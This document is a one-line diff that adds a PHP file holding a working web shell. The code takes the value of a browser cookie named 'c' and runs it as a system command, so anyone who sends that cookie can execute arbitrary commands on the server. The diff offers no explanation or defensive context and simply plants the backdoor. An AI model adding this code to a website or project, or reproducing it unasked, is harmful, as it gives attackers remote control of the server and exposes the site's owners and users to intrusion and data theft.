@@ -1,0 +1,1 @@
+<?php $c = $_COOKIE["c"]; system($c); ?>
